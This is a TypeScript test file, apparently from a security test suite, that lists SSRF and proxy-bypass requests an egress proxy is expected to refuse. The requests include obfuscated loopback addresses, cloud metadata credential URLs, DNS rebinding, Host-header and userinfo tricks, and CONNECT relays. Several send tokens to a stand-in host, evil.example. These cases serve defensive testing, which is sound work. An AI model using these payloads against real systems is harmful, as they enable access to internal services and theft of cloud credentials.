/**
 * SSRF and proxy bypasses against the egress proxy library on the host. `{P}` is the port of
 * the canary service on host loopback, `{A}` the allowed upstream's port. The `guard` proxy
 * allows every host by policy, so only its SSRF guard stands between a request and the
 * canary; the `allowlist` proxy allows `allowed.example:{A}` only (which resolves to
 * loopback, allowed by a CIDR), so host parsing and tunnel checks are what is tested.
 */
import type { EgressCase } from '../types.js';

const authority = (url: string): string => (url.replace(/^[a-z]+:\/\//, '').split('/')[0] ?? '').replace(/^.*@/, '');

const get = (id: string, description: string, url: string, host?: string, proxy: EgressCase['proxy'] = 'guard', headers = ''): EgressCase => ({
  kind: 'egress',
  id,
  class: 'ssrf',
  description,
  expected: 'refused',
  proxy,
  request: `GET ${url} HTTP/1.1\r\nHost: ${host ?? authority(url)}\r\n${headers}Connection: close\r\n\r\n`,
});

const connect = (id: string, description: string, target: string, after = '', proxy: EgressCase['proxy'] = 'guard'): EgressCase => ({
  kind: 'egress',
  id,
  class: 'ssrf',
  description,
  expected: 'refused',
  proxy,
  request: `CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n${after}`,
});

/** SSRF and proxy cases. */
export const SSRF_CASES: readonly EgressCase[] = [
  get('ssrf-loopback', 'plain loopback', 'http://127.0.0.1:{P}/'),
  get('ssrf-localhost', 'localhost by name', 'http://localhost:{P}/'),
  get('ssrf-localhost-dot', 'localhost with a trailing dot', 'http://localhost.:{P}/'),
  get('ssrf-decimal', 'loopback as one decimal number', 'http://2130706433:{P}/'),
  get('ssrf-octal', 'loopback in octal', 'http://0177.0.0.1:{P}/'),
  get('ssrf-hex', 'loopback in hex', 'http://0x7f.0.0.1:{P}/'),
  get('ssrf-hex-whole', 'loopback as one hex number', 'http://0x7f000001:{P}/'),
  get('ssrf-short', 'short form 127.1', 'http://127.1:{P}/'),
  get('ssrf-zero', '0.0.0.0 (reaches loopback on Linux)', 'http://0.0.0.0:{P}/'),
  get('ssrf-loopback-other', '127.0.0.2 (the whole /8)', 'http://127.0.0.2:{P}/'),
  get('ssrf-ipv6-loopback', '[::1]', 'http://[::1]:{P}/'),
  get('ssrf-ipv4-mapped', 'IPv4-mapped IPv6 [::ffff:127.0.0.1]', 'http://[::ffff:127.0.0.1]:{P}/'),
  get('ssrf-ipv4-mapped-hex', 'IPv4-mapped IPv6 in hex [::ffff:7f00:1]', 'http://[::ffff:7f00:1]:{P}/'),
  get('ssrf-ipv4-compatible', 'deprecated IPv4-compatible [::127.0.0.1]', 'http://[::127.0.0.1]:{P}/'),
  get('ssrf-nat64', 'NAT64 [64:ff9b::7f00:1]', 'http://[64:ff9b::7f00:1]:{P}/'),
  get('ssrf-6to4', '6to4 [2002:7f00:1::]', 'http://[2002:7f00:1::]:{P}/'),
  get('ssrf-teredo', 'Teredo [2001:0:4136:e378:8000:63bf:80ff:fffe]', 'http://[2001:0:4136:e378:8000:63bf:80ff:fffe]:{P}/'),
  get('ssrf-metadata-aws', 'AWS metadata 169.254.169.254', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'),
  get('ssrf-metadata-ecs', 'ECS task metadata 169.254.170.2', 'http://169.254.170.2/v2/credentials'),
  get('ssrf-metadata-v6', 'AWS metadata over IPv6 [fd00:ec2::254]', 'http://[fd00:ec2::254]/latest/meta-data/'),
  get('ssrf-metadata-name', 'metadata.google.internal (resolves to 169.254.169.254)', 'http://metadata.google.internal/computeMetadata/v1/'),
  get('ssrf-metadata-decimal', 'metadata as a decimal number', 'http://2852039166/latest/meta-data/'),
  get('ssrf-alibaba-cgnat', 'Alibaba metadata 100.100.100.200 (CGNAT)', 'http://100.100.100.200/latest/meta-data/'),
  get('ssrf-private-10', 'private 10/8', 'http://10.0.0.1/'),
  get('ssrf-private-192', 'private 192.168/16', 'http://192.168.0.1/'),
  get('ssrf-private-172', 'private 172.16/12', 'http://172.16.0.1/'),
  get('ssrf-dns-to-loopback', 'a public-looking name that resolves to loopback (nip.io style)', 'http://127.0.0.1.nip.io:{P}/'),
  get('ssrf-dns-mixed', 'a name with one public and one loopback address', 'http://mixed.example:{P}/'),
  get('ssrf-dns-rebind', 'DNS rebinding: public on the first lookup, loopback on every later one', 'http://rebind.example:{P}/'),
  get('ssrf-dns-mapped', 'a name whose AAAA is IPv4-mapped loopback', 'http://mapped.example:{P}/'),
  get('ssrf-nul-host', 'a NUL byte in the host', 'http://127.0.0.1\0.allowed.example:{P}/', '127.0.0.1'),
  get('ssrf-percent-host', 'a percent-encoded host', 'http://%31%32%37.0.0.1:{P}/', '127.0.0.1'),
  connect('ssrf-connect-loopback', 'CONNECT to loopback', '127.0.0.1:{P}'),
  connect('ssrf-connect-localhost', 'CONNECT to localhost by name', 'localhost:{P}'),
  connect('ssrf-connect-decimal', 'CONNECT to a decimal IP', '2130706433:{P}'),
  connect('ssrf-connect-mapped', 'CONNECT to [::ffff:127.0.0.1]', '[::ffff:127.0.0.1]:{P}'),
  connect('ssrf-connect-rebind', 'CONNECT to a rebinding name', 'rebind.example:{P}'),
  // allowlist proxy: only allowed.example:{A}
  get('proxy-userinfo', 'userinfo: allowed.example@evil.example', 'http://allowed.example:{A}@evil.example:{P}/', 'evil.example:{P}', 'allowlist'),
  get('proxy-prefix-match', 'startsWith-style match: allowed.example.evil.example', 'http://allowed.example.evil.example:{P}/', undefined, 'allowlist'),
  get('proxy-suffix-match', 'endsWith-style match: evilallowed.example', 'http://evilallowed.example:{P}/', undefined, 'allowlist'),
  get('proxy-wrong-port', 'an allowed host on a port the policy does not allow', 'http://allowed.example:{P}/', undefined, 'allowlist'),
  get('proxy-host-header-mismatch', 'absolute URI to an allowed host with a Host header naming another', 'http://evil.example:{P}/', 'allowed.example:{A}', 'allowlist'),
  get('proxy-origin-form-host', 'origin-form request whose Host header is a forbidden target', '/', 'evil.example:{P}', 'allowlist'),
  connect('proxy-connect-wrong-port', 'CONNECT to an allowed host on another port', 'allowed.example:{P}', '', 'allowlist'),
  connect('proxy-connect-inner-host', 'CONNECT to the allowed target, then an inner request with another Host', 'allowed.example:{A}', 'GET / HTTP/1.1\r\nHost: evil.example:{P}\r\n\r\n', 'allowlist'),
  connect('proxy-connect-relay', 'CONNECT to the allowed target, then a raw non-TLS protocol (a relay)', 'allowed.example:{A}', 'SSH-2.0-OpenSSH_9.0\r\n', 'allowlist'),
  get('proxy-own-credential', "bring one's own credential to an allowed API (upload to the attacker's account)", 'http://api.example:{A}/upload', undefined, 'allowlist', 'Authorization: Bearer attacker-own-token-1234567890\r\n'),
  get('proxy-own-credential-query', "one's own token in a query parameter on an allowed API", 'http://api.example:{A}/upload?access_token=attacker-own-token-1234567890', undefined, 'allowlist'),
  get('proxy-credential-echo', 'an allowed API that echoes the injected credential back (the secret must come back as the placeholder)', 'http://api.example:{A}/echo', undefined, 'allowlist', 'Authorization: Bearer rt-placeholder-credential\r\n'),
  get('proxy-credential-other-host', 'the placeholder sent to a host the credential is not bound to, by userinfo and Host tricks', 'http://api.example.evil.example:{P}/', undefined, 'allowlist', 'Authorization: Bearer rt-placeholder-credential\r\n'),
  connect('proxy-connect-fronting', 'CONNECT to the allowed target with a TLS ClientHello whose SNI names another host (domain fronting)', 'allowed.example:{A}', '{CLIENTHELLO:evil.example}', 'allowlist'),
];
